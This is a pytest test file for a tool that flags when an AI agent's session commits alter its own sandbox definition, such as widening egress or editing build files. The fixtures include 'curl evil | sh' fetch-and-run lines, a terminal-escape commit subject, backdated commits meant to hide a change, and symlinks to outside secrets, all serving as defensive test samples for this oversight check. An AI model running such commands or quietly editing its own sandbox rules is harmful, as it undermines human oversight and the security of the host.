"""Where the definition came from: real git repositories, a second repository playing the
session (configured as remote paude-demo), no mocks for git."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from paude import index, provenance
from paude.config import load_session
from paude.policies.settings import PolicyFile, resolve
from paude.provenance import Snapshot
from paude.results import DefinitionChange
from paude.summary import summarize

BASE = "version: 1\nsessions:\n  demo:\n    allowed_domains: [default]\n"
WIDER = "version: 1\nsessions:\n  demo:\n    allowed_domains: [default, .example.com]\n"
DOCKER = ("version: 1\nsessions:\n  demo:\n    image: {dockerfile: docker/Dockerfile, "
          "context: docker}\n")


@pytest.fixture(autouse=True)
def isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No user or system git configuration, and a PAUDE_HOME of the test's own."""
    monkeypatch.setenv("PAUDE_HOME", str(tmp_path / "paude-home"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    for key in ("GIT_DIR", "GIT_WORK_TREE", "GIT_AUTHOR_DATE", "GIT_COMMITTER_DATE"):
        monkeypatch.delenv(key, raising=False)


def git(repo: Path, *args: str, env: dict[str, str] | None = None) -> str:
    ident = {"GIT_AUTHOR_NAME": "Host User", "GIT_AUTHOR_EMAIL": "user@example.invalid",
             "GIT_COMMITTER_NAME": "Host User", "GIT_COMMITTER_EMAIL": "user@example.invalid"}
    result = subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True,
                            env={**os.environ, **ident, **(env or {})}, check=False)
    assert result.returncode == 0, f"git {' '.join(args)}: {result.stderr}"
    return result.stdout


AGENT = {"GIT_AUTHOR_NAME": "Agent", "GIT_AUTHOR_EMAIL": "agent@paude.invalid",
         "GIT_COMMITTER_NAME": "Agent", "GIT_COMMITTER_EMAIL": "agent@paude.invalid"}


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def host_repo(tmp_path: Path, files: dict[str, str] | None = None) -> Path:
    """The user's repository: paude.yaml and `files`, committed on main."""
    repo = tmp_path / "host"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    for name, text in {"paude.yaml": BASE, **(files or {})}.items():
        write(repo / name, text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "initial")
    return repo


def session_repo(host: Path, tmp_path: Path) -> Path:
    """The session's workspace: a clone of the host, where the agent commits."""
    agent = tmp_path / "agent"
    git(tmp_path, "clone", "-q", str(host), str(agent))
    git(host, "remote", "add", "paude-demo", str(agent))
    return agent


def agent_commit(agent: Path, files: dict[str, str], subject: str,
                 env: dict[str, str] | None = None) -> str:
    for name, text in files.items():
        write(agent / name, text)
    git(agent, "add", "-A")
    git(agent, "commit", "-qm", subject, env={**AGENT, **(env or {})})
    return git(agent, "rev-parse", "HEAD").strip()


def snap(repo: Path, config: Any = None) -> Snapshot:
    session, _ = load_session(repo, "demo")
    return provenance.snapshot(repo, session, config)


def test_a_commit_pulled_from_the_session_is_reported_with_its_sha_and_subject(
        tmp_path: Path) -> None:
    host = host_repo(tmp_path)
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    sha = agent_commit(agent, {"paude.yaml": WIDER}, "widen egress")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")

    current = snap(host)
    assert current.head == sha and current.head != recorded.head
    [change] = provenance.changes(host, current, recorded)
    assert (change.file, change.change, change.from_session) == ("paude.yaml", "modified", True)
    [commit] = change.commits
    assert (commit.sha, commit.subject, commit.author, commit.source) == (
        sha, "widen egress", "Agent", "paude-demo")
    assert sha.startswith(commit.short) and len(commit.short) >= 7

    # The plan's summary marks it security-relevant and names the commit.
    [item] = summarize((), new_session=False, definition=(change,))
    assert item.kind == "definition-changed-by-session" and item.security
    assert item.text == (f"definition changed by session commits: paude.yaml "
                         f"({commit.short} 'widen egress', from paude-demo)")
    assert item.details == (f"paude.yaml: {commit.short} 'widen egress' by Agent, "
                            "from paude-demo",)


def test_a_local_commit_is_a_change_but_not_from_a_session(tmp_path: Path) -> None:
    host = host_repo(tmp_path)
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    agent_commit(agent, {"notes.txt": "agent work\n"}, "unrelated agent work")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")  # a session ref exists
    write(host / "paude.yaml", WIDER)
    git(host, "commit", "-qam", "widen egress myself")

    found = provenance.changes(host, snap(host), recorded)
    assert found == (DefinitionChange("paude.yaml", "modified", (), False),)
    [item] = summarize((), new_session=False, definition=found)
    assert item.kind == "definition-changed" and not item.security
    assert item.text == "definition changed since the last apply: paude.yaml (modified)"
    review = provenance.review(host, load_session(host, "demo")[0], resolve([]), recorded)
    assert review.finding is None


def test_unchanged_inputs_report_nothing(tmp_path: Path) -> None:
    host = host_repo(tmp_path)
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    agent_commit(agent, {"src/app.py": "print('hi')\n"}, "agent code, not definition")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    current = snap(host)
    assert current.inputs == recorded.inputs and current.head != recorded.head
    assert provenance.changes(host, current, recorded) == ()


def test_the_rule_is_advisory_by_default_and_mandatory_when_the_policy_says_so(
        tmp_path: Path) -> None:
    host = host_repo(tmp_path)
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    agent_commit(agent, {"paude.yaml": WIDER}, "widen egress")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    session, _ = load_session(host, "demo")

    advisory = provenance.review(host, session, resolve([]), recorded)
    assert advisory.finding is not None and not advisory.finding.blocking
    assert advisory.finding.rule == "definition-changed-by-session"
    assert advisory.finding.resource == ""
    assert "paude.yaml (" in advisory.finding.message and "from paude-demo" in \
        advisory.finding.message
    assert "git show" in advisory.finding.fix

    strict = resolve([(str(host), PolicyFile.model_validate(
        {"rules": {"definition-changed-by-session": {"level": "mandatory"}}}))])
    assert provenance.review(host, session, strict, recorded).finding.blocking  # type: ignore[union-attr]
    off = resolve([(str(host), PolicyFile.model_validate(
        {"rules": {"definition-changed-by-session": {"level": "disabled"}}}))])
    disabled = provenance.review(host, session, off, recorded)
    assert disabled.finding is None and disabled.changes  # still shown in the plan


def test_symlinks_are_recorded_by_their_text_never_followed(tmp_path: Path) -> None:
    outside = write(tmp_path / "outside" / "secret.txt", "secret one\n")
    write(tmp_path / "outside" / "Dockerfile", "FROM scratch\n")
    host = host_repo(tmp_path, {"paude.yaml": DOCKER, "docker/Dockerfile": "FROM debian\n"})
    (host / "paude-policy.yaml").symlink_to(outside)
    (host / "docker" / "leak").symlink_to(tmp_path / "outside")
    (host / "docker" / "key").symlink_to(outside)
    first = snap(host)
    link = "symlink:" + hashlib.sha256(str(outside).encode()).hexdigest()
    assert first.inputs["paude-policy.yaml"] == link
    assert first.inputs["docker/key"] == link
    assert first.inputs["docker/leak"].startswith("symlink:")
    assert not any(p.startswith("docker/leak/") for p in first.inputs)
    assert first.inputs["docker/Dockerfile"] == \
        "sha256:" + hashlib.sha256(b"FROM debian\n").hexdigest()

    # What a link points at is never read: changing it changes nothing here.
    outside.write_text("secret two\n", encoding="utf-8")
    assert snap(host).inputs == first.inputs
    # Retargeting the link is a change.
    (host / "docker" / "key").unlink()
    (host / "docker" / "key").symlink_to(tmp_path / "outside" / "Dockerfile")
    assert provenance.changes(host, snap(host), first) == (
        DefinitionChange("docker/key", "modified", (), False),)


def test_a_symlinked_context_folder_is_one_link(tmp_path: Path) -> None:
    write(tmp_path / "elsewhere" / "Dockerfile", "FROM scratch\n")
    host = host_repo(tmp_path, {"paude.yaml": DOCKER.replace("context: docker", "context: ctx"),
                                "docker/Dockerfile": "FROM debian\n"})
    (host / "ctx").symlink_to(tmp_path / "elsewhere")
    assert sorted(snap(host).inputs) == ["ctx", "docker/Dockerfile", "paude.yaml"]


def test_build_context_files_and_the_image_source_are_inputs(tmp_path: Path) -> None:
    host = host_repo(tmp_path, {
        "paude.yaml": "version: 1\nsessions:\n  demo: {}\n",
        ".devcontainer/devcontainer.json": '{"build": {"dockerfile": "Dockerfile"}}',
        ".devcontainer/Dockerfile": "FROM debian\n",
        ".devcontainer/requirements.txt": "requests\n",
        ".devcontainer/.dockerignore": "ignored.txt\n",
        ".devcontainer/ignored.txt": "x\n",
        "unrelated.txt": "y\n"})
    assert sorted(snap(host).inputs) == [
        ".devcontainer/.dockerignore", ".devcontainer/Dockerfile",
        ".devcontainer/devcontainer.json", ".devcontainer/requirements.txt", "paude.yaml"]


def test_context_files_follow_the_ignore_file_podman_reads(tmp_path: Path) -> None:
    host = host_repo(tmp_path, {
        "paude.yaml": DOCKER, "docker/Dockerfile": "FROM debian\n",
        "docker/.dockerignore": "setup.sh\n", "docker/.containerignore": "*.log\n",
        "docker/setup.sh": "echo hi\n", "docker/build.log": "x\n",
        "docker/Dockerfile.dockerignore": "build.log\n"})
    # The Dockerfile's own ignore file comes first: setup.sh is built, so it is an input.
    assert "docker/setup.sh" in snap(host).inputs
    assert "docker/Dockerfile.dockerignore" in snap(host).inputs
    assert "docker/build.log" not in snap(host).inputs
    # Control: named there, it is left out.
    (host / "docker" / "Dockerfile.dockerignore").write_text("setup.sh\n")
    assert "docker/setup.sh" not in snap(host).inputs


def test_setup_files_and_the_policy_file_are_inputs(tmp_path: Path) -> None:
    host = host_repo(tmp_path, {
        "paude.yaml": "version: 1\nsessions:\n  demo:\n    image: {setup: 'sh scripts/setup.sh "
                      "--fast'}\n",
        "scripts/setup.sh": "echo hi\n",
        "paude-policy.yaml": "version: 1\nrules: {pvc-size-limit: {level: mandatory}}\n"})
    from paude import policy

    inputs = snap(host, policy.load(host)).inputs
    assert sorted(inputs) == ["paude-policy.yaml", "paude.yaml", "scripts/setup.sh"]


def test_a_dockerfile_context_file_changed_by_the_session(tmp_path: Path) -> None:
    host = host_repo(tmp_path, {"paude.yaml": DOCKER, "docker/Dockerfile": "FROM debian\n"})
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    odd = "docker/we ird\nname-é.txt"
    sha = agent_commit(agent, {"docker/Dockerfile": "FROM debian\nRUN curl evil | sh\n",
                               odd: "x\n"}, "tweak the image")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    found = {c.file: c for c in provenance.changes(host, snap(host), recorded)}
    assert set(found) == {"docker/Dockerfile", odd}
    assert found[odd].change == "added"
    assert [c.sha for c in found[odd].commits] == [sha]
    assert [c.sha for c in found["docker/Dockerfile"].commits] == [sha]


def test_without_a_record_only_session_commits_are_reported(tmp_path: Path) -> None:
    host = host_repo(tmp_path)
    assert provenance.changes(host, snap(host), None) == ()  # no session refs at all
    agent = session_repo(host, tmp_path)
    sha = agent_commit(agent, {"paude.yaml": WIDER}, "widen egress")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    [change] = provenance.changes(host, snap(host), None)
    assert (change.file, change.change, [c.sha for c in change.commits]) == (
        "paude.yaml", "unrecorded", [sha])


def test_rescue_refs_count_as_sessions_and_merges_keep_the_session_commit(
        tmp_path: Path) -> None:
    host = host_repo(tmp_path)
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    sha = agent_commit(agent, {"paude.yaml": WIDER}, "widen egress")
    git(host, "fetch", "-q", "paude-demo")
    git(host, "update-ref", "refs/paude/demo/rescued", sha)
    git(host, "remote", "remove", "paude-demo")  # only the rescue ref is left
    write(host / "README.md", "local work\n")
    git(host, "add", "README.md")
    git(host, "commit", "-qm", "local work")
    git(host, "merge", "-q", "--no-edit", sha)
    [change] = provenance.changes(host, snap(host), recorded)
    assert [(c.sha, c.source) for c in change.commits] == [(sha, "refs/paude/demo")]


def test_commit_dates_chosen_by_the_agent_do_not_hide_a_commit(tmp_path: Path) -> None:
    host = host_repo(tmp_path)
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    sha = agent_commit(agent, {"paude.yaml": WIDER}, "widen egress")
    old = {"GIT_AUTHOR_DATE": "1970-01-02T00:00:00Z", "GIT_COMMITTER_DATE": "1970-01-02T00:00:00Z"}
    for n in range(8):
        agent_commit(agent, {f"f{n}.txt": "x\n"}, f"filler {n}", env=old)
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    [change] = provenance.changes(host, snap(host), recorded)
    assert [c.sha for c in change.commits] == [sha]


def test_subjects_are_made_printable(tmp_path: Path) -> None:
    host = host_repo(tmp_path)
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    agent_commit(agent, {"paude.yaml": WIDER}, "\x1b]0;pwned\x07innocent\x1b[2J")
    # A second commit whose subject is not UTF-8, written as raw bytes.
    write(agent / "paude.yaml", BASE + "# again\n")
    git(agent, "add", "-A")
    tree = git(agent, "write-tree").strip()
    parent = git(agent, "rev-parse", "HEAD").strip()
    # The header claims UTF-8, so git prints the bytes as they are.
    body = (f"tree {tree}\nparent {parent}\nauthor Agent <a@b> 1700000000 +0000\n"
            f"committer Agent <a@b> 1700000000 +0000\nencoding UTF-8\n\n").encode()
    raw = subprocess.run(["git", "-C", str(agent), "hash-object", "-t", "commit", "-w",
                          "--stdin", "--literally"],
                         input=body + b"bad \xff\xfe subject\n", capture_output=True,
                         check=True).stdout.decode().strip()
    git(agent, "update-ref", "refs/heads/main", raw)
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    [change] = provenance.changes(host, snap(host), recorded)
    subjects = [c.subject for c in change.commits]
    assert subjects[0] == "(subject is not valid UTF-8)"
    assert subjects[1] == "?]0;pwned?innocent?[2J"
    assert all(c.isprintable() for s in subjects for c in s)


def test_outside_git_changes_are_reported_without_commits(tmp_path: Path) -> None:
    folder = tmp_path / "plain"
    write(folder / "paude.yaml", BASE)
    recorded = snap(folder)
    assert recorded.head == ""
    write(folder / "paude.yaml", WIDER)
    assert provenance.changes(folder, snap(folder), recorded) == (
        DefinitionChange("paude.yaml", "modified", (), False),)


def test_a_project_in_a_subfolder_of_the_repository(tmp_path: Path) -> None:
    host = host_repo(tmp_path, {"sub/paude.yaml": BASE})
    root = host / "sub"
    session, _ = load_session(root, "demo")
    recorded = provenance.snapshot(root, session)
    agent = session_repo(host, tmp_path)
    sha = agent_commit(agent, {"sub/paude.yaml": WIDER, "paude.yaml": WIDER}, "widen both")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    [change] = provenance.changes(root, provenance.snapshot(root, session), recorded)
    assert (change.file, [c.sha for c in change.commits]) == ("paude.yaml", [sha])


# ---------------------------------------------------------------- the record at apply


def test_index_records_the_definition_and_old_files_still_load(tmp_path: Path) -> None:
    index.write("demo", backend="podman", owner="/repo", outputs={},
                definition={"paude.yaml": "sha256:ab"}, head="c" * 40)
    assert provenance.recorded("demo", "/repo") == Snapshot({"paude.yaml": "sha256:ab"}, "c" * 40)
    assert provenance.recorded("demo", "/other-repo") is None

    path = tmp_path / "paude-home" / "sessions" / "demo.json"
    old = {"name": "demo", "backend": "podman", "owner": "/repo", "applied_at": 1.0}
    path.write_text(json.dumps(old), encoding="utf-8")
    entry = index.read("demo")
    assert entry is not None and entry.definition_inputs == {} and entry.definition_head == ""
    assert provenance.recorded("demo", "/repo") is None

    path.write_text(json.dumps({**old, "definition_inputs": ["x"], "definition_head": 3}),
                    encoding="utf-8")
    entry = index.read("demo")
    assert entry is not None and entry.definition_inputs == {} and entry.definition_head == ""


def test_own_commits_pushed_into_a_session_did_not_come_from_it(tmp_path: Path) -> None:
    host = host_repo(tmp_path)
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    write(host / "paude.yaml", WIDER)
    git(host, "commit", "-qam", "widen egress myself")
    git(host, "push", "-q", "paude-demo", "main:refs/heads/synced")  # now reachable from it
    assert git(host, "rev-parse", "refs/remotes/paude-demo/synced") == \
        git(host, "rev-parse", "HEAD")
    assert provenance.changes(host, snap(host), recorded) == (
        DefinitionChange("paude.yaml", "modified", (), False),)
    # Control: the same change committed in the session is reported.
    git(agent, "pull", "-q", "--ff-only", "origin", "main")
    agent_commit(agent, {"paude.yaml": WIDER + "# agent\n"}, "agent widens")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    [change] = provenance.changes(host, snap(host), recorded)
    assert [c.subject for c in change.commits] == ["agent widens"]


# ---------------------------------------------------------------- in the plan


def _preview_with(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, level: str,
                  *, new: bool = True) -> tuple[Any, list[str]]:
    """sessions._preview with the engine faked: a session-edited paude.yaml under `level`."""
    from paude import engine, sessions
    from paude.errors import PolicyViolationError

    host = host_repo(tmp_path)
    recorded = snap(host)
    agent = session_repo(host, tmp_path)
    agent_commit(agent, {"paude.yaml": WIDER}, "widen egress")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    session, _ = load_session(host, "demo")
    config = resolve([(str(host), PolicyFile.model_validate(
        {"rules": {"definition-changed-by-session": {"level": level}}}))])
    review = provenance.review(host, session, config, recorded)
    discarded: list[str] = []
    monkeypatch.setattr(engine, "preview", lambda handle, **_: ((), ()))
    monkeypatch.setattr(engine, "discard", lambda handle: discarded.append(handle.name))
    handle = engine.StackHandle("demo", None, new)  # type: ignore[arg-type]
    try:
        result: Any = sessions._preview(handle, session, Path("/pack"), [], keep_new=True,
                                        review=review)
    except PolicyViolationError as exc:
        result = exc
    return result, discarded


def test_an_advisory_finding_joins_the_plan(monkeypatch: pytest.MonkeyPatch,
                                            tmp_path: Path) -> None:
    plan, discarded = _preview_with(monkeypatch, tmp_path, "advisory")
    assert [(f.rule, f.level) for f in plan.policy] == [
        ("definition-changed-by-session", "advisory")]
    assert not plan.blocked and discarded == []
    assert [c.file for c in plan.definition_changes] == ["paude.yaml"]
    assert plan.summary[0].kind == "definition-changed-by-session"


def test_a_mandatory_finding_blocks_and_leaves_no_new_stack(monkeypatch: pytest.MonkeyPatch,
                                                            tmp_path: Path) -> None:
    error, discarded = _preview_with(monkeypatch, tmp_path, "mandatory")
    assert "[definition-changed-by-session] the session:" in error.message
    assert "nothing was applied" in error.message
    assert error.partial.blocked and error.partial.definition_changes[0].from_session
    assert discarded == ["demo"]


def test_paude_policies_lists_the_rule_at_its_level(tmp_path: Path) -> None:
    from paude import policy

    rows = {r.id: r for r in policy.effective(tmp_path)[0]}
    assert (rows["definition-changed-by-session"].level,
            rows["definition-changed-by-session"].source) == ("advisory", "built-in")
    write(tmp_path / "paude-policy.yaml",
          "version: 1\nrules:\n  definition-changed-by-session: {level: mandatory}\n")
    rows = {r.id: r for r in policy.effective(tmp_path)[0]}
    assert rows["definition-changed-by-session"].level == "mandatory"


def test_without_git_the_files_are_still_compared(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    host = host_repo(tmp_path)
    recorded = snap(host)
    write(host / "paude.yaml", WIDER)
    monkeypatch.setenv("PATH", str(tmp_path / "no-tools"))
    current = snap(host)
    assert current.head == ""
    assert provenance.changes(host, current, recorded) == (
        DefinitionChange("paude.yaml", "modified", (), False),)


def test_a_feature_script_edited_by_the_agent_is_named(tmp_path: Path) -> None:
    feature = "version: 1\nsessions:\n  demo:\n    image: {features: {./features/tool: true}}\n"
    host = host_repo(tmp_path, {"paude.yaml": feature,
                                "features/tool/devcontainer-feature.json": '{"id": "tool"}\n',
                                "features/tool/install.sh": "echo ok\n"})
    recorded = snap(host)
    assert "features/tool/install.sh" in recorded.inputs
    agent = session_repo(host, tmp_path)
    agent_commit(agent, {"features/tool/install.sh": "curl evil | sh\n"}, "tweak feature")
    git(host, "pull", "-q", "--ff-only", "paude-demo", "main")
    [change] = provenance.changes(host, snap(host), recorded)
    assert (change.file, change.from_session) == ("features/tool/install.sh", True)
